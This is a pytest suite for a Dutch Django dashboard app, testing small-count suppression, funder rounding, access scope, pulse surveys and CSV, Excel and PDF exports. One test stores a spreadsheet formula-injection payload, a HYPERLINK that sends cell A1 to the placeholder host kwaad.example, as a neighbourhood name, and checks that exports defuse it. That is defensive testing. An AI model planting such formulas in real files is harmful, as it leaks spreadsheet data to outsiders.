"""The dashboards: figures per scope, suppression everywhere, rounding for the funder, exports, pulse, survey."""

import csv
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from tests.conftest import Cast
from tests.factories import ResidentFactory, UserFactory
from tests.pdfcheck import assert_prints
from veerkracht.activities.models import Activity, Registration, RegistrationStatus
from veerkracht.activities.services import attendance_record
from veerkracht.contacts.services import contact_log
from veerkracht.insights.models import PulseResponse, Survey, SurveyResponse
from veerkracht.insights.periods import default_period, quarter, recent_quarters
from veerkracht.insights.services import pulse_answer

pytestmark = pytest.mark.django_db


def _contacts(cast: Cast, channel: str, count: int, days_ago: int = 1) -> None:
    for _ in range(count):
        contact_log(
            by=cast.professional,
            resident_ids=[cast.resident_north.pk],
            channel=channel,
            started_at=timezone.now() - timedelta(days=days_ago),
            duration_minutes=10,
        )


def test_channel_mix_hides_small_cells_and_what_gives_them_away(cast: Cast, api_as):
    _contacts(cast, "phone", 30)
    _contacts(cast, "video_call", 3)
    body = api_as("coordinator").get("/insights/channel-mix").json()
    month = body["contacts"]["rows"][-1]
    assert month["cells"]["video_call"] == {"count": None, "share": None, "suppressed": True, "secondary": False}
    hidden = [c for c, cell in month["cells"].items() if cell["suppressed"]]
    assert len(hidden) >= 2  # the partner that would give the 3 away by subtraction
    assert all(month["cells"][c]["secondary"] for c in hidden if c != "video_call")
    assert body["contacts"]["total"]["count"] == 33


def test_the_funder_sees_rounded_counts_and_no_small_ones(cast: Cast, api_as):
    _contacts(cast, "phone", 33)
    body = api_as("funder").get("/insights/channel-mix").json()
    assert body["contacts"]["total"]["count"] == 35
    assert body["contacts"]["rows"][-1]["cells"]["phone"]["count"] == 35


def test_before_and_after_compares_whole_months(cast: Cast, api_as):
    this_month = timezone.localdate().replace(day=1)
    _contacts(cast, "phone", 12, days_ago=(timezone.localdate() - this_month).days + 20)
    _contacts(cast, "video_call", 15, days_ago=0)
    client = api_as("coordinator")
    body = client.get("/insights/channel-mix", compare_at=this_month.isoformat()).json()
    rows = {row["label"]: row["cells"] for row in body["compare"]["rows"]}
    assert (rows["phone"]["voor"]["count"], rows["phone"]["na"]["count"]) == (12, 0)
    assert (rows["video_call"]["voor"]["count"], rows["video_call"]["na"]["count"]) == (0, 15)
    assert body["time_share_before_after"]["video_call"] == {"before": 0.0, "after": 1.0}
    # A date inside a month would let two requests a day apart publish that day's figures.
    refused = client.get("/insights/channel-mix", compare_at=(this_month + timedelta(days=14)).isoformat())
    assert refused.status_code == 422
    assert "compare_at" in refused.text


def test_periods_are_whole_months(api_as):
    client = api_as("coordinator")
    assert client.get("/insights/channel-mix", **{"from": "2026-03-05"}).status_code == 422
    assert client.get("/insights/channel-mix", **{"from": "2026-03-01", "to": "2026-03-30"}).status_code == 422
    assert client.get("/insights/channel-mix", **{"from": "2026-03-01", "to": "2026-03-31"}).status_code == 200


def test_a_neighbourhood_outside_scope_answers_404(cast: Cast, api_as):
    assert api_as("professional").get("/insights/reach", neighbourhood=cast.south.pk).status_code == 404
    assert api_as("professional").get("/insights/reach", neighbourhood=cast.north.pk).status_code == 200


def test_reach_per_target_group_counts_residents_reached_by_any_channel(cast: Cast, api_as):
    for _ in range(12):
        ResidentFactory.create(household__building__neighbourhood=cast.north, lives_alone=True)
    _contacts(cast, "phone", 1)
    tables = {t["name"]: t for t in api_as("coordinator").get("/insights/reach", days=30).json()["tables"]}
    alone = tables["reach_lives_alone"]["rows"][0]
    assert alone["total"]["count"] == 12
    everyone = {row["label"]: row for row in tables["reach_everyone"]["rows"]}
    assert everyone[cast.north.name]["cells"]["bereikt"]["suppressed"] is True  # 1 of 13


def test_bridging_shows_the_mix_and_the_index(cast: Cast, api_as):
    start = timezone.now() - timedelta(days=3)
    activity = Activity.objects.create(
        organisation=cast.organisation, title="Taalcafé", kind="language_cafe", starts_at=start,
        ends_at=start + timedelta(hours=2), organiser=cast.professional, online_link="https://meet.example.nl/x",
    )  # fmt: skip
    this_year = timezone.localdate().year
    registrations = []
    for i in range(20):
        resident = ResidentFactory.create(
            household__building__neighbourhood=cast.north, birth_year=this_year - (80 if i % 2 else 25),
            migration_background=i % 4 == 0,
        )  # fmt: skip
        registrations.append(
            Registration.objects.create(activity=activity, resident=resident, status=RegistrationStatus.CONFIRMED)
        )
    attendance_record(by=cast.professional, activity=activity, registration_ids=[r.pk for r in registrations])
    body = api_as("coordinator").get("/insights/bridging").json()
    (row,) = body["kinds"]["rows"]
    assert row["label"] == "language_cafe"
    assert row["total"]["count"] == 20
    (mix,) = body["activities"]
    assert 0.5 < mix["diversity"] < 0.75
    assert mix["connects"] is True


def _pulse_answers(cast: Cast, yes: int, no: int) -> None:
    for i in range(yes + no):
        pulse_answer(
            by=UserFactory.create(professional=True, organisation=cast.organisation),
            can_carry_out=i < yes,
            worried_about_clients=False,
            working_channels=[],
        )


@pytest.mark.clock
def test_pulse_and_survey_results(cast: Cast, api_as, client):
    _pulse_answers(cast, yes=12, no=10)
    pulse = api_as("coordinator").get("/insights/pulse").json()
    assert pulse["rows"][-1]["cells"]["ja"] == {"count": 12, "share": 0.545, "suppressed": False, "secondary": False}
    survey = Survey.objects.create(organisation=cast.organisation, title="Buurtpeiling", since=timezone.localdate())
    url = f"/peiling/{survey.token}/"
    assert client.get(url).status_code == 200
    response = client.post(url, {"relations": "improved", "age_group": "75_plus", "neighbourhood": cast.north.pk})
    assert response.status_code == 302
    assert SurveyResponse.objects.get().on_paper is False
    results = api_as("coordinator").get(f"/insights/survey/{survey.pk}/results").json()
    assert results["tables"][0]["rows"][3]["cells"]["Verbeterd"]["suppressed"] is True
    assert api_as("outsider_coordinator").get(f"/insights/survey/{survey.pk}/results").status_code == 404


def test_a_week_that_began_last_month_counts_in_the_month_its_answers_came_in(cast: Cast, api_as):
    with time_machine.travel(datetime(2026, 12, 4, 23, 11, tzinfo=ZoneInfo("Europe/Amsterdam"))):
        _pulse_answers(cast, yes=12, no=10)  # a Friday night; the week began on Monday 30 November
        assert PulseResponse.objects.filter(week=date(2026, 11, 30)).count() == 22
        rows = api_as("coordinator").get("/insights/pulse").json()["rows"]
    assert rows[-1]["label"] == "2026-12"
    assert rows[-1]["cells"]["ja"]["count"] == 12


def test_a_worker_answers_the_pulse_once_a_week(cast: Cast, client):
    client.force_login(cast.professional)
    for answer in ("1", "0"):
        client.post("/inzicht/puls/", {"can_carry_out": answer, "worried_about_clients": "0"})
    assert PulseResponse.objects.get(worker=cast.professional).can_carry_out is False


def test_the_dashboard_and_its_exports(cast: Cast, client):
    _contacts(cast, "phone", 30)
    client.force_login(cast.coordinator)
    page = client.get("/inzicht/")
    assert page.status_code == 200
    assert "Kanaalmix" in page.content.decode()
    exported = client.get("/inzicht/export/channel_mix.csv").content.decode()
    assert "30" in exported  # 30 rounds to 30
    workbook = load_workbook(io.BytesIO(client.get("/inzicht/export/channel_mix.xlsx").content))
    assert workbook.active is not None
    assert client.get("/inzicht/export/channel_mix.pdf").status_code == 404
    assert client.get("/inzicht/export/nothing.csv").status_code == 404
    for name in ("channel_mix_compare", "reach_everyone", "out_of_sight", "pulse", "bridging", "help"):
        assert client.get(f"/inzicht/export/{name}.csv").status_code == 200, name
    first, _last = default_period()
    quarter = f"{first.year}-Q{(first.month - 1) // 3 + 1}"
    pdf = client.get(f"/inzicht/kwartaalrapportage.pdf?quarter={quarter}")
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


def test_out_of_sight_beside_reach_and_a_team_filter(cast: Cast, client):
    for _ in range(12):
        ResidentFactory.create(household__building__neighbourhood=cast.south, lives_alone=True)
    client.force_login(cast.coordinator)
    page = client.get("/inzicht/").content.decode()
    assert "Uit beeld" in page
    south_only = client.get("/inzicht/", {"team": cast.team_south.pk}).content.decode()
    assert cast.south.name in south_only
    assert cast.north.name not in south_only.split("Bereik in")[1]


def test_a_formula_in_a_neighbourhood_name_is_text_in_every_export(cast: Cast, client):
    attack = '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")'
    cast.north.name = attack
    cast.north.save()
    _contacts(cast, "phone", 30)
    client.force_login(cast.coordinator)
    exported = client.get("/inzicht/export/reach_everyone.csv").content.decode("utf-8-sig")
    labels = [row[0] for row in csv.reader(io.StringIO(exported), delimiter=";") if row]
    assert "'" + attack in labels
    assert not any(label.startswith("=") for label in labels)
    book = load_workbook(io.BytesIO(client.get("/inzicht/export/reach_everyone.xlsx").content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == attack]
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_small_and_protecting_cells_are_marked_differently_with_a_legend(cast: Cast, client):
    _contacts(cast, "phone", 30)
    _contacts(cast, "video_call", 3)
    client.force_login(cast.coordinator)
    page = client.get("/inzicht/").content.decode()
    assert "&lt; 10" in page
    assert ">×</abbr>" in page  # the partner hidden to protect the 3
    assert "kan elk aantal zijn" in page  # the legend says what × means
    assert "elk apart afgerond" in page  # and that totals are rounded on their own
    exported = client.get("/inzicht/export/channel_mix.csv").content.decode("utf-8-sig")
    assert "×" in exported
    assert "< 10" in exported


def test_channel_tables_are_headed_with_dutch_names_not_codes(cast: Cast, client):
    _contacts(cast, "porch_talk", 12)
    client.force_login(cast.coordinator)
    page = client.get("/inzicht/").content.decode()
    assert ">Portiekgesprek</th>" in page
    assert ">porch_talk<" not in page
    assert ">face_to_face<" not in page


def test_csv_exports_open_in_excel_as_utf8_with_decimal_commas(cast: Cast, client):
    start = timezone.now() - timedelta(days=3)
    activity = Activity.objects.create(
        organisation=cast.organisation, title="Taalcafé", kind="language_cafe", starts_at=start,
        ends_at=start + timedelta(hours=2), organiser=cast.professional, online_link="https://meet.example.nl/x",
    )  # fmt: skip
    this_year = timezone.localdate().year
    registrations = [
        Registration.objects.create(
            activity=activity,
            resident=ResidentFactory.create(
                household__building__neighbourhood=cast.north, birth_year=this_year - (80 if i % 2 else 25)
            ),
            status=RegistrationStatus.CONFIRMED,
        )
        for i in range(20)
    ]
    attendance_record(by=cast.professional, activity=activity, registration_ids=[r.pk for r in registrations])
    client.force_login(cast.coordinator)
    raw = client.get("/inzicht/export/bridging.csv").content
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    (taalcafe,) = [row for row in rows if row and row[0] == "Taalcafé"]
    assert "," in taalcafe[-1]
    assert "." not in taalcafe[-1]  # the diversity index with a decimal comma
    book = load_workbook(io.BytesIO(client.get("/inzicht/export/bridging.xlsx").content))
    assert len(book.worksheets) == 1  # no empty extra sheet
    values = [row for row in book.worksheets[0].iter_rows(values_only=True) if row[0] == "Taalcafé"]
    assert isinstance(values[0][-1], float)  # a number, not text
    assert isinstance(values[0][1], int)


def test_the_hours_csv_starts_with_a_byte_order_mark(cast: Cast, client):
    client.force_login(cast.coordinator)
    response = client.get("/uren/maand.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_the_dashboard_links_the_quarterly_report_for_recent_quarters(cast: Cast, client):
    client.force_login(cast.funder)
    page = client.get("/inzicht/").content.decode()
    assert 'action="/inzicht/kwartaalrapportage.pdf"' in page
    assert recent_quarters()[1] in page


def test_a_future_quarter_is_refused_in_dutch(cast: Cast, client):
    client.force_login(cast.funder)
    coming = recent_quarters(1, timezone.localdate() + timedelta(days=100))[0]
    response = client.get(f"/inzicht/kwartaalrapportage.pdf?quarter={coming}", follow=True)
    assert response["Content-Type"].startswith("text/html")
    assert "nog niet begonnen" in response.content.decode()


@pytest.mark.clock
def test_the_quarterly_report_shows_the_asked_quarter_beside_the_previous_one_and_a_year_earlier(cast: Cast, client):
    asked = recent_quarters()[2]  # two quarters back: its figures must not be today's
    first, _last = quarter(asked)
    _contacts(cast, "porch_talk", 20, days_ago=(timezone.localdate() - first).days - 10)
    _contacts(cast, "phone", 40, days_ago=1)  # this quarter's contacts: not in the asked one
    client.force_login(cast.funder)
    pdf = client.get(f"/inzicht/kwartaalrapportage.pdf?quarter={asked}").content
    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text(extraction_mode="layout")
    assert "Portiekgesprek" in text
    assert "porch talk" not in text
    assert "face to face" not in text
    assert recent_quarters()[3] in text  # the previous quarter
    assert f"{first.year - 1}-Q{(first.month - 1) // 3 + 1}" in text  # the same quarter a year earlier
    (contacts,) = [line.strip() for line in text.splitlines() if line.strip().startswith("Contacten")]
    assert contacts.split()[1] == "20"  # the asked quarter's 20 contacts, not this quarter's 40
    assert "laatste 90 dagen" not in text
    assert_prints(pdf, "Kwartaalrapportage", "Portiekgesprek")  # embedded DejaVu Sans, no Helvetica
